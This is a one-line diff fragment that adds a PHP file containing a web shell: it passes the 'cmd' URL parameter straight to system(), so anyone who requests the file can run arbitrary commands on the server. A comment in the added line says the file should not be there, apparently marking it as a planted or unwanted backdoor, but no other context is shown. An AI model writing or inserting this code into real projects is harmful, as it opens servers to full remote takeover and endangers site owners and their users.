@@ -1,0 +1,1 @@
+<?php system($_GET["cmd"]); // this file should not be here
